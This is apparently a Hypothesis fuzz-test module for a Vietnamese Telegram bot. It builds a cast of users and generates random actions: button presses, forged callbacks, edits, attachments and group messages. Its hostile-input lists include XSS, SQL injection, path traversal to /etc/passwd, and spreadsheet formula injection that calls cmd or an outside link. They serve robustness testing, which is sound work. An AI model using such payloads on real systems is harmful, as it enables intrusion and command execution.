"""A cast of people and a stream of random things they do, for the robustness (fuzz) test.

Hypothesis draws each action from what is on screen at that moment (the buttons a person sees,
the messages they sent), mixed with hostile input: HTML specials, texts over 4096 characters,
emoji and zero-width characters, forged and stale callback data, edited messages, stickers,
contacts, group messages, anonymous administrators, channel posts and strangers.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

from hypothesis import strategies as st

from bot.emulator import Emulator
from bot.offline import OfflineBot
from bot.storage.models import Role, Unit
from bot.telegram.commands import REGISTRY
from tests.e2e.helpers import add_invite, consent, join

GROUP = -1009988776
CHANNEL = -1005544332
ADMIN_ID = 900001
STRANGER_IDS = range(7_000_000, 7_000_050)

HOSTILE_TEXTS = [
    "<b>đậm</b> & <i>nghiêng",
    "<script>alert(1)</script>",
    "a < b > c & d",
    "&amp;&lt;&#0;&#xFFFF;",
    '=HYPERLINK("http://x/?"&B2,"Click")',
    "@everyone +1 -1",
    "\u200b\u200c\u200d\ufeff",
    "🛡️👮‍♀️🇻🇳" * 40,
    "x" * 4097,
    "Lừa đảo qua mạng " * 300,
    "\x00\x01\x02",
    "\n\n\n",
    " ",
    "/",
    "//",
    "/start@canhgiac_test_bot",
    "/start " + "A" * 200,
    "/start doc-",
    "/start doc-khong-co",
    "/start HS-A HS-A",
    "/thongke 01/01/0001-02/01/0001",
    "/thongke TRUONG-A 9999",
    "/vinhdanh 31/12/9999",
    "/thongke ../../etc/passwd",
    "/kiemtra ' OR 1=1 --",
    "/timkiem %_\\",
    "xin chào",
    "1",
    "-1",
]

PERIODS = ["", "2026", "thang 11", "q4", "nam", "01/01/2026-31/12/2026", "9999", "abc"]


@dataclass
class Person:
    user_id: int
    name: str
    role: Role | None  # None: consented, no unit; strangers are not in the cast


@dataclass
class Cast:
    """Who acts in the fuzz run, and where."""

    people: list[Person]
    group_members: list[int]
    commands: list[str] = field(default_factory=list)


async def assemble(offline: OfflineBot, unit: Unit) -> Cast:
    """An admin, an officer, a trainer, learners, a person without a unit, and a group."""
    async with offline.storage.sessionmaker() as session:
        await add_invite(session, "FZ-HV", unit, Role.LEARNER)
        await add_invite(session, "FZ-GV", unit, Role.TRAINER)
        await add_invite(session, "FZ-CB", unit, Role.OFFICER)
    people = [
        Person(ADMIN_ID, "Quản trị", Role.ADMIN),
        Person(5101, "Cán bộ Hà", Role.OFFICER),
        Person(5102, "Giảng viên Tùng", Role.TRAINER),
        Person(5103, "Lan", Role.LEARNER),
        Person(5104, "<b>Minh</b> & co", Role.LEARNER),
        Person(5105, "=cmd|' /C calc'!A0", Role.LEARNER),
        Person(5106, "Chưa vào đơn vị", None),
    ]
    codes = {Role.OFFICER: "FZ-CB", Role.TRAINER: "FZ-GV", Role.LEARNER: "FZ-HV"}
    for person in people:
        chat = offline.chat(person.user_id, first_name=person.name)
        code = codes.get(person.role) if person.role else None
        if code:
            await join(chat, code)
        else:
            await consent(chat)
    offline.emulator.add_group(GROUP, "Nhóm kiểm thử <&>")
    members = [p.user_id for p in people[1:5]]
    for member in members:
        offline.emulator.add_member(GROUP, member)
    commands = sorted({name for spec in REGISTRY for name in (spec.vi, spec.en)})
    return Cast(people, members, commands)


# Something a person does to the emulator.
Act = Callable[[Emulator], object]


@dataclass(frozen=True)
class Screen:
    """What the people see, copied out of the emulator so actions can be drawn elsewhere."""

    buttons: dict[int, list[tuple[int, list[str], list[str]]]]  # chat -> (message, live, all)
    texts: dict[int, list[int]]  # person -> ids of the texts they sent in their private chat

    @classmethod
    def of(cls, emulator: Emulator, chats: list[int]) -> Screen:
        buttons: dict[int, list[tuple[int, list[str], list[str]]]] = {}
        for chat_id in chats:
            for message in emulator.messages(chat_id):
                datas = [
                    d
                    for row in message.buttons()
                    for _t, d in row
                    if d and not d.startswith(("http://", "https://", "tg://"))
                ]
                if datas and not message.deleted:
                    live = list(message.callback_data())
                    buttons.setdefault(chat_id, []).append((message.message_id, live, datas))
        texts: dict[int, list[int]] = {}
        for (chat, mid), sent in list(emulator.state.bot().user_messages.items()):
            if chat == sent.get("from", {}).get("id") and "text" in sent:
                texts.setdefault(chat, []).append(mid)
        return cls(buttons, texts)


@st.composite
def text_input(draw: st.DrawFn, commands: list[str]) -> str:
    kind = draw(st.sampled_from(["command", "hostile", "free", "digits"]))
    if kind == "command":
        name = draw(st.sampled_from(commands))
        args = draw(
            st.one_of(
                st.just(""),
                st.sampled_from(PERIODS),
                st.sampled_from(["TRUONG-A", "TRUONG-A-10A1", "CTY-B", "KHONG-CO", "HS-A"]),
                st.text(max_size=40),
            )
        )
        return f"/{name} {args}".strip()
    if kind == "hostile":
        return draw(st.sampled_from(HOSTILE_TEXTS))
    if kind == "digits":
        return str(draw(st.integers(min_value=-3, max_value=12)))
    return draw(st.text(min_size=1, max_size=300).filter(lambda t: t.strip() != ""))


KINDS = [
    "text",
    "text",
    "press",
    "press",
    "press",
    "forge",
    "stale",
    "edit",
    "attachment",
    "contact",
    "group",
    "group_press",
    "anonymous",
    "channel",
    "stranger",
    "block",
]
ATTACHMENT_KINDS = ["sticker", "photo", "location", "document", "voice"]
PHONES = ["+84901234567", "0901234567", "0", "=1+1"]


@dataclass(frozen=True)
class Choice:
    """Everything one action may need, drawn the same way whatever is on screen.

    Hypothesis replays and shrinks by the sequence of draws, so the draws must not depend on
    the bot's state: picks are integers turned into a screen item with a modulo afterwards.
    """

    person: int
    kind: str
    picks: tuple[int, int, int]
    text: str
    mutated: str
    flag: bool
    caption: str | None


@st.composite
def choice(draw: st.DrawFn, commands: list[str]) -> Choice:
    return Choice(
        person=draw(st.integers(min_value=0, max_value=10**6)),
        kind=draw(st.sampled_from(KINDS)),
        picks=(
            draw(st.integers(min_value=0, max_value=10**6)),
            draw(st.integers(min_value=0, max_value=10**6)),
            draw(st.integers(min_value=0, max_value=10**6)),
        ),
        text=draw(text_input(commands)),
        mutated=draw(mutation()),
        flag=draw(st.booleans()),
        caption=draw(st.one_of(st.none(), text_input(commands))),
    )


def mutation() -> st.SearchStrategy[str]:
    """How forged callback data differs from a real button's: a code applied by `forge`."""
    return st.one_of(
        st.sampled_from(["half", "big", "negative", "extra", "digit"]),
        st.text(min_size=1, max_size=64).map(lambda t: "raw:" + t),
        st.sampled_from(FORGED).map(lambda t: "raw:" + t),
    )


FORGED = [
    "st1:show:1:c3652058-3652059:0",
    "p1:export",
    "p1:forget_yes",
    "bc1:send:1",
    "rm1:delete:1",
    "iv1:x:1:officer",
    "qz1:a:999999:0:0",
    "c1:1",
    "hr1:x",
]


def forge(data: str, how: str) -> str:
    parts = data.split(":")
    forged = {
        "half": data[: max(1, len(data) // 2)],
        "big": ":".join([*parts[:-1], "999999999"]),
        "negative": ":".join([*parts[:-1], "-1"]),
        "extra": ":".join([*parts, "x"]),
        "digit": data.replace("1", "9", 1),
    }.get(how, how.removeprefix("raw:"))
    return forged[:64] or "x"


def action(screen: Screen, cast: Cast, c: Choice) -> Act:
    """One thing somebody does, chosen from what is on their screen now."""
    uid = cast.people[c.person % len(cast.people)].user_id
    first, second, third = c.picks
    kind = c.kind
    if kind in ("press", "forge", "stale", "group_press"):
        chat_id = GROUP if kind == "group_press" else uid
        messages = screen.buttons.get(chat_id, [])
        if messages:
            mid, live, datas = messages[-1] if kind == "press" else messages[first % len(messages)]
            data = datas[second % len(datas)]
            if kind == "forge":
                data = forge(data, c.mutated)
            presser = (
                cast.group_members[third % len(cast.group_members)] if chat_id == GROUP else uid
            )
            if data in live:
                return lambda emu: emu.press_button(presser, chat_id, mid, data)
            return lambda emu: emu.press_button(presser, chat_id, mid, data, forged=True)
        kind = "text"
    if kind == "edit" and screen.texts.get(uid):
        sent = screen.texts[uid]
        mid = sent[first % len(sent)]
        return lambda emu: emu.edit_text(uid, uid, mid, c.text)
    if kind == "attachment":
        what = ATTACHMENT_KINDS[first % len(ATTACHMENT_KINDS)]
        in_group = c.flag and uid in cast.group_members
        return lambda emu: emu.send_attachment(uid, what, GROUP if in_group else None, c.caption)
    if kind == "contact":
        phone = PHONES[first % len(PHONES)]
        return lambda emu: emu.send_contact(uid, phone)
    if kind == "group":
        member = cast.group_members[first % len(cast.group_members)]
        return lambda emu: emu.send_text(member, c.text, GROUP)
    if kind == "anonymous":
        return lambda emu: emu.send_anonymous(GROUP, c.text)
    if kind == "channel":
        return lambda emu: emu.channel_post(CHANNEL, c.text)
    if kind == "stranger":
        stranger = STRANGER_IDS[first % len(STRANGER_IDS)]
        return lambda emu: emu.send_text(stranger, c.text)
    if kind == "block":
        return lambda emu: emu.block(uid) if c.flag else emu.unblock(uid)
    return lambda emu: emu.send_text(uid, c.text)
